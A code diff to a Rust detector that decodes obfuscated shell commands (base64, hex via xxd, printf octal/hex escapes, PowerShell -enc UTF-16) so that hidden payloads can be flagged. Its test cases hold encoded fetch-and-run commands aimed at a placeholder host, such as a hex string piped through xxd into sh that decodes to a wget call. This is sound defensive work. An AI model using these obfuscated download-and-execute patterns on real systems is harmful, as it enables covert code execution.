@@ -1,11 +1,14 @@
-//! Commands that are hidden: `echo d2dldC… | base64 -d | sh`, `printf '\x77\x67…'`.
+//! Commands that are hidden: `echo d2dldC… | base64 -d | sh`, `printf '\x77\x67…'`, `echo 7767… | xxd -r -p`.
 
 /// The shortest word that is decoded, in bytes. Shorter words may be anything, and a command with a URL is longer.
 const SHORTEST: usize = 24;
 
-/// Returns the texts that are encoded in a command which decodes base64. Takes time linear in the command.
+/// The fewest escapes of a hidden text; one or two are a colour or a line end.
+const ESCAPES: usize = 3;
+
+/// Returns the texts that are encoded in a command which decodes base64 or hexadecimal digits. Takes time linear in the command.
 pub(super) fn payloads(text: &str) -> impl Iterator<Item = String> + '_ {
-    let decodes = ["base64", "b64decode", "Base64"]
+    let decodes = ["base64", "b64decode", "Base64", "-enc", "-Enc"]
         .iter()
         .any(|name| text.contains(name));
     let words = decodes.then(|| text.split(|c: char| !is_digit(c) && c != '='));
@@ -14,26 +17,44 @@ pub(super) fn payloads(text: &str) -> impl Iterator<Item = String> + '_ {
         .flatten()
         .filter(|word| word.len() >= SHORTEST)
         .filter_map(decoded);
-    in_base64.chain(unescaped(text))
+    let is_hex = text.contains("xxd -") || text.contains("unhexlify") || text.contains("fromhex");
+    let words = is_hex.then(|| text.split(|c: char| !c.is_ascii_hexdigit()));
+    let in_hex = words
+        .into_iter()
+        .flatten()
+        .filter(|word| word.len() >= SHORTEST)
+        .filter_map(|word| text_of(hex::decode(word).ok()?));
+    in_base64.chain(in_hex).chain(unescaped(text))
 }
 
-/// The text with `\x77` as the characters that they stand for, if that is text.
+/// Returns the text with `\x77`, `\167` and `\0167` as the bytes that they stand for in `printf` and `echo -e`, if there are
+/// some and the result is text.
 fn unescaped(text: &str) -> Option<String> {
-    let escaped = text.split("\\x").count() > SHORTEST / 4;
     let mut bytes = Vec::new();
-    let mut parts = text.split("\\x").filter(|_| escaped);
-    bytes.extend_from_slice(parts.next()?.as_bytes());
-    for part in parts {
-        let digits = part.get(..2);
-        match digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
-            Some(byte) => {
-                bytes.push(byte);
-                bytes.extend_from_slice(&part.as_bytes()[2..]);
-            }
-            None => bytes.extend_from_slice(part.as_bytes()),
-        }
+    let mut escapes = 0;
+    let mut rest = text.as_bytes();
+    while let Some((&byte, after)) = rest.split_first() {
+        let escape = (byte == b'\\').then(|| escape(after)).flatten();
+        let (byte, length) = escape.unwrap_or((byte, 0));
+        escapes += usize::from(length > 0);
+        bytes.push(byte);
+        rest = &after[length..];
     }
-    text_of(bytes)
+    (escapes >= ESCAPES).then(|| text_of(bytes)).flatten()
+}
+
+/// Reads an escape behind its backslash: the byte, and the number of characters of the escape.
+fn escape(text: &[u8]) -> Option<(u8, usize)> {
+    let (digits, base, before) = match text {
+        [b'x', digits @ ..] => (digits.get(..2)?, 16, 1),
+        [b'0', digits @ ..] => (digits.get(..3)?, 8, 1),
+        digits => (digits.get(..3)?, 8, 0),
+    };
+    // a sign is no digit
+    let all = digits.iter().all(u8::is_ascii_hexdigit);
+    let digits = std::str::from_utf8(digits).ok().filter(|_| all)?;
+    let byte = u8::from_str_radix(digits, base).ok()?;
+    Some((byte, before + digits.len()))
 }
 
 fn is_digit(c: char) -> bool {
@@ -57,9 +78,19 @@ pub(crate) fn decoded(word: &str) -> Option<String> {
 }
 
 fn text_of(bytes: Vec<u8>) -> Option<String> {
-    let text = String::from_utf8(bytes).ok()?;
+    let text = match of_windows(&bytes) {
+        Some(text) => text,
+        None => String::from_utf8(bytes).ok()?,
+    };
     let is_text = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
     text.chars().all(is_text).then_some(text)
+}
+
+/// Reads UTF-16 of ASCII characters only, as `powershell -EncodedCommand` takes it.
+fn of_windows(bytes: &[u8]) -> Option<String> {
+    let (pairs, rest) = bytes.as_chunks::<2>();
+    let wide = !pairs.is_empty() && rest.is_empty() && pairs.iter().all(|pair| pair[1] == 0);
+    wide.then(|| pairs.iter().map(|pair| char::from(pair[0])).collect())
 }
 
 fn value(digit: u8) -> Option<u32> {
@@ -101,6 +132,23 @@ mod tests {
             (
                 "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > x",
                 &[],
+            ),
+            (
+                "echo -e '\\x68\\x74\\x74p://a.example/x'",
+                &["echo -e 'http://a.example/x'"],
+            ),
+            (
+                "printf '\\150\\0164\\164p://a.example/x'",
+                &["printf 'http://a.example/x'"],
+            ),
+            ("echo -e '\\x1b[0m \\x41 \\+1a \\n \\x'", &[]),
+            (
+                "echo 7767657420687474703a2f2f612e6578616d706c65 | xxd -r -p | sh",
+                &["wget http://a.example"],
+            ),
+            (
+                "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAA==",
+                &["iwr http://a.example"],
             ),
             ("base64 AAAAB3NzaC1yc2EAAAADAQABAAABAQ== a=b=c", &[]),
             ("base64 d2dldCBodHRwOi8vYS5leGFtcG=xlL3g", &[]),
